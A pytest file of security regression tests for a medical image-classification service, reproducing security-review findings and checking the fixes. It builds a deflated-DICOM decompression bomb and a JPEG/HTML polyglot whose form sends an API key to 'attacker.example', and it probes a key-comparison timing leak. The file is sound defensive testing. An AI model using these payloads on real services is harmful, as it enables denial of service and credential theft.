"""A security review's findings, each reproduced: what an attacker could send, and what the service does now."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from service.app import create_app
from tests.service.helpers import assert_error, make_settings

BOMB_MAX_PIXELS = 1_000_000  # a deflated data set may then inflate to about 7 MB


def _deflated(explicit: bytes) -> bytes:
    """A DICOM object re-saved as Deflated Explicit VR Little Endian (its whole data set deflated)."""
    import pydicom
    from pydicom import uid

    ds = pydicom.dcmread(io.BytesIO(explicit))
    ds.file_meta.TransferSyntaxUID = uid.DeflatedExplicitVRLittleEndian
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


def _deflate_bomb(inflated_bytes: int) -> bytes:
    """A small deflated DICOM image whose data set also holds ``inflated_bytes`` zeros (a private element): the
    upload is a thousandth of that."""
    import pydicom

    from tests.dicom_files import make_dicom

    ds = pydicom.dcmread(io.BytesIO(make_dicom([np.full((64, 64, 3), 90, np.uint8)], "explicit")))
    ds.add_new(0x00091010, "OB", bytes(inflated_bytes))
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return _deflated(out.getvalue())


@pytest.fixture(scope="module")
def small_limits(default_artifact: Path) -> Iterator[TestClient]:
    with TestClient(create_app(make_settings(default_artifact, max_pixels=BOMB_MAX_PIXELS))) as client:
        yield client


def test_a_deflated_dicom_bomb_is_refused_before_it_inflates(small_limits: TestClient) -> None:
    """pydicom inflates a deflated data set in one call: a 2 MB upload of deflated zeros took 4 GB and 10 s of a
    model thread (20 MB, the upload limit: 40 GB), and its first 64 KB 0.2 s of the event loop."""
    pytest.importorskip("pydicom", reason="the optional 'dicom' extra is not installed")
    bomb = _deflate_bomb(64 << 20)
    assert len(bomb) < 200_000
    r = small_limits.post("/v1/classify", files={"image": ("study.dcm", bomb, "application/dicom")})
    assert_error(r, 413, "image_too_large", "deflated", "decompression bomb")


def test_a_dicom_header_is_never_inflated_on_the_event_loop(monkeypatch: pytest.MonkeyPatch) -> None:
    filereader = pytest.importorskip("pydicom.filereader", reason="the optional 'dicom' extra is not installed")

    from model.preprocess import header_pixels

    inflated: list[int] = []

    class CountingZlib:
        MAX_WBITS = 15

        @staticmethod
        def decompress(data: bytes, *args: Any) -> bytes:
            inflated.append(len(data))
            raise AssertionError("inflated")

    from tests.dicom_files import make_dicom

    black = _deflated(make_dicom([np.zeros((3000, 4000, 3), np.uint8)], "explicit", grey=True))  # 12 MB in 12 KB
    monkeypatch.setattr(filereader, "zlib", CountingZlib)
    assert header_pixels(_deflate_bomb(16 << 20)) == 0  # Rows and Columns come after the zeros: unknown
    assert header_pixels(black) == 3000 * 4000  # its first 64 KB inflated, and no more: the large images' lane
    assert inflated == []


def test_a_real_deflated_dicom_still_decodes_as_stored(small_limits: TestClient, golden_image: Image.Image) -> None:
    pytest.importorskip("pydicom", reason="the optional 'dicom' extra is not installed")
    from tests.dicom_files import make_dicom

    explicit = make_dicom([np.asarray(golden_image.convert("RGB"))], "explicit")
    embeddings = []
    for data in (explicit, _deflated(explicit)):
        r = small_limits.post("/v1/embed", files={"image": ("x.dcm", data, "application/dicom")})
        assert r.status_code == 200, r.text
        embeddings.append(r.json()["embedding"])
    assert embeddings[0] == embeddings[1]


def test_the_unversioned_aliases_answer_with_no_store_as_v1_does(api: TestClient, golden_image: Image.Image) -> None:
    """`POST /classify` is `/v1/classify` (a diagnosis): it went out without `Cache-Control: no-store`."""
    from tests.service.helpers import encode

    image = encode(golden_image.convert("RGB"), "JPEG", quality=90)
    for path in ("/v1/classify", "/classify"):
        r = api.post(path, files={"image": ("eye.jpg", image, "image/jpeg")})
        assert r.status_code == 200, r.text
        assert r.headers["cache-control"] == "no-store", path
    for path in ("/v1/search", "/search"):  # no index here: a 503, which must not be kept either
        r = api.post(path, json={"query": "drusen"})
        assert r.status_code == 503, r.text
        assert r.headers["cache-control"] == "no-store", path


def test_keys_are_compared_without_revealing_their_length(monkeypatch: pytest.MonkeyPatch) -> None:
    """`compare_digest` returns at once on values of different lengths: a key's length was in the answer's time."""
    import secrets

    from service import deps

    lengths: list[tuple[int, int]] = []
    real = secrets.compare_digest

    def spy(a: bytes, b: bytes) -> bool:
        lengths.append((len(a), len(b)))
        return real(a, b)

    monkeypatch.setattr(deps.secrets, "compare_digest", spy)
    keys = ["k-one", "a-much-longer-admin-key-0123456789"]
    assert deps.key_matches("a-much-longer-admin-key-0123456789", keys)
    assert not deps.key_matches("x", keys) and not deps.key_matches("k-one-and-more", keys)
    assert lengths and all(a == b for a, b in lengths), lengths


def test_an_archive_image_is_served_as_the_image_it_is_whatever_its_name(
    default_artifact: Path, golden_image: Image.Image, tmp_path: Path
) -> None:
    """Every file of an image folder that decodes is indexed: a JPEG named `.html` (one that is HTML too: a comment
    segment holding a page) was served as `text/html` from the service's own origin, where its form could ask for
    the API key; `.svg` as `image/svg+xml`."""
    from tests.service.helpers import build_index, encode

    page = b"<html><body><form action='https://attacker.example/'>API key: <input name=k></form></body></html>"
    jpeg = encode(golden_image.convert("RGB"), "JPEG", quality=90)
    polyglot = jpeg[:2] + b"\xff\xfe" + (len(page) + 2).to_bytes(2, "big") + page + jpeg[2:]
    names = {"report.html": polyglot, "scan.svg": encode(golden_image.convert("RGB"), "PNG"), "eye.jpg": jpeg}
    rows = []
    for name, data in names.items():
        (tmp_path / name).write_bytes(data)
        rows.append({"path": str(tmp_path / name), "modality": "CFP", "diagnosis": "normal"})
    index = build_index(rows, tmp_path, default_artifact)
    with TestClient(create_app(make_settings(default_artifact, index=index))) as client:
        hits = client.post("/v1/search", json={"query": "normal", "top_k": 3}).json()["hits"]
        served = {}
        for hit in hits:
            r = client.get(f"/v1/images/{hit['id']}")
            assert r.status_code == 200, r.text
            served[r.content[:4]] = r.headers["content-type"]
    assert served == {polyglot[:4]: "image/jpeg", jpeg[:4]: "image/jpeg", b"\x89PNG": "image/png"}, served
